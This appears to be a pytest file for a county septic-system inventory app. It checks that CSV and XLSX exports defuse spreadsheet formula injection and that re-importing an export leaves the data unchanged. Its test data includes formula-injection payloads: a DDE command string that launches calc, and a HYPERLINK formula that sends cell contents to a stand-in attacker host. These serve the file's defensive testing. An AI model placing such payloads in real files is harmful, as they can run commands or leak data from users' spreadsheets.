"""Exports are safe to open in a spreadsheet (finding "Formula injection in exports"):
owner names, extra column headers and other text cells that start with `=`, `+`, `-`, `@`, tab or
carriage return are written with a leading `'` (OWASP CSV injection), in the inventory export and in
the import's rejects file; and "the import keeps what the file had": importing an export changes nothing."""
import csv
import datetime as dt
import json

from powts.inventory.exporting import export_inventory
from powts.inventory.importing.service import import_inventory
from powts.inventory.models import Owner, System

TODAY = dt.date(2026, 11, 29)
# The finding's examples, and one of each dangerous first character.
EXTRA = "=cmd|'/c calc'!A1"
EXTRA_KEY = "=cmd|'/c_calc'!a1"  # how the import names an extra column (normalise_header)
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "@SUM(1)", "+1", "-1+2", "=1+1"]


def read_rows(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def import_file(path, jurisdiction, **kw):
    return import_inventory(path=path, jurisdiction=jurisdiction, today=TODAY, **kw)


def load_county(dane, write_csv):
    """Systems whose owners are formulas, an extra column named like a formula, a negative longitude."""
    rows = [["system_id", "parcel_id", "system_type", "owner_name", "longitude", EXTRA]]
    rows += [[f"D-{i}", f"P-{i}", "mound", name, "-89.5", "@x"] for i, name in enumerate(FORMULAS)]
    rows.append(["D-plain", "P-plain", "mound", "Ann Smith", "-89.25", "plain"])
    result = import_file(write_csv(rows), dane)
    assert result.created == len(FORMULAS) + 1
    # A leading tab or carriage return cannot come through a CSV import (cells are trimmed), but a
    # name typed elsewhere can hold one; the export must guard it too.
    Owner.objects.filter(name="=1+1").update(name="\t=1", mailing_address="\r=2")


def test_inventory_export_prefixes_formula_cells_and_headers(dane, write_csv, tmp_path):
    load_county(dane, write_csv)
    out = tmp_path / "export.csv"
    export_inventory(jurisdiction=dane, path=out)
    header, *rows = read_rows(out)
    assert header[-1] == "'" + EXTRA_KEY
    by_id = {r[0]: dict(zip(header, r)) for r in rows}
    for i, name in enumerate(FORMULAS[:-1]):
        assert by_id[f"D-{i}"]["owner_name"] == "'" + name
        assert by_id[f"D-{i}"]["'" + EXTRA_KEY] == "'@x"
    assert by_id["D-4"]["owner_name"] == "'\t=1"
    assert by_id["D-4"]["owner_mailing_address"] == "'\r=2"
    # The other side: plain text is untouched, and numbers stay numbers (a negative longitude is not a formula).
    assert by_id["D-plain"]["owner_name"] == "Ann Smith"
    assert by_id["D-plain"]["longitude"] == "-89.250000"
    assert by_id["D-0"]["longitude"] == "-89.500000"
    # No cell anywhere starts with a character a spreadsheet reads as a formula.
    assert not [c for r in [header, *rows] for c in r if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for r in rows for c in r if c[:1] == "-" and not c.lstrip("-").replace(".", "").isdigit()]


def test_importing_the_export_changes_nothing_and_keeps_what_the_file_had(dane, write_csv, tmp_path):
    load_county(dane, write_csv)
    before = {s.system_id: (s.parcel.owner.name, s.parcel.owner.mailing_address, s.extra)
              for s in System.objects.select_related("parcel__owner")}
    first = tmp_path / "first.csv"
    export_inventory(jurisdiction=dane, path=first)
    result = import_file(first, dane)
    assert result.counts() == {"rows": 6, "created": 0, "updated": 0, "unchanged": 6, "rejected": 0}
    after = {s.system_id: (s.parcel.owner.name, s.parcel.owner.mailing_address, s.extra)
             for s in System.objects.select_related("parcel__owner")}
    assert after == before
    assert after["D-4"][:2] == ("\t=1", "\r=2") and after["D-0"][0] == FORMULAS[0]
    assert after["D-0"][2] == {EXTRA_KEY: "@x"}
    second = tmp_path / "second.csv"
    export_inventory(jurisdiction=dane, path=second)
    assert second.read_bytes() == first.read_bytes()


def test_the_import_removes_only_the_one_quote_an_export_adds(dane, write_csv):
    """A `'` before a safe character is the county's own text and stays; `''=x` is the export of `'=x`."""
    path = write_csv([["system_id", "parcel_id", "system_type", "owner_name", "site_address"],
                      ["D-1", "P-1", "mound", "'=x", "'Round Barn' Rd"],
                      ["D-2", "P-2", "mound", "''=x", "O'Brien Ln"]])
    assert import_file(path, dane).created == 2
    names = dict(System.objects.values_list("system_id", "parcel__owner__name"))
    addresses = dict(System.objects.values_list("system_id", "parcel__site_address"))
    assert names == {"D-1": "=x", "D-2": "'=x"}
    assert addresses == {"D-1": "'Round Barn' Rd", "D-2": "O'Brien Ln"}


def test_the_rejects_file_prefixes_formula_cells_and_headers(dane, write_csv, tmp_path):
    path = write_csv([["system_id", "parcel_id", "system_type", "owner_name", "=cmd", "note"],
                      ["D-1", "P-1", "not a type", FORMULAS[0], "-1+2", "\t=1"],
                      ["D-2", "P-2", "mound", "@SUM(1)", "+1", ""]])
    result = import_file(path, dane, rejects_path=tmp_path / "rejects.csv")
    assert result.rejected == 1 and result.created == 1
    header, row = read_rows(tmp_path / "rejects.csv")
    assert header == ["system_id", "parcel_id", "system_type", "owner_name", "'=cmd", "note", "line", "reason"]
    assert row[:6] == ["D-1", "P-1", "not a type", "'" + FORMULAS[0], "'-1+2", "'\t=1"] and row[6] == "2"
    # Fixed and imported again, the rejected row comes in with the values the county's file had.
    row[2] = "mound"
    with open(tmp_path / "fixed.csv", "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([header[:6], row[:6]])
    assert import_file(tmp_path / "fixed.csv", dane).created == 1
    fixed = System.objects.select_related("parcel__owner").get(system_id="D-1")
    assert fixed.parcel.owner.name == FORMULAS[0] and fixed.extra == {"=cmd": "-1+2", "note": "\t=1"}


def test_xlsx_export_of_an_owner_survives_as_text(dane, tmp_path):
    """An XLSX built with powts.core.spreadsheet.xlsx_cell re-imports as it was (no visible quote needed)."""
    import openpyxl

    from powts.core.spreadsheet import xlsx_cell

    book = openpyxl.Workbook()
    sheet = book.active
    for row in [["system_id", "parcel_id", "system_type", "owner_name", "latitude"],
                ["D-1", "P-1", "mound", "=HYPERLINK(\"x\")", 43.1], ["D-2", "P-2", "mound", "-1+2", -0.5]]:
        sheet.append([xlsx_cell(sheet, v) for v in row])
    book.save(tmp_path / "inv.xlsx")
    assert json.dumps(import_file(tmp_path / "inv.xlsx", dane).counts()) == json.dumps(
        {"rows": 2, "created": 2, "updated": 0, "unchanged": 0, "rejected": 0})
    assert dict(System.objects.values_list("system_id", "parcel__owner__name")) == {"D-1": "=HYPERLINK(\"x\")", "D-2": "-1+2"}
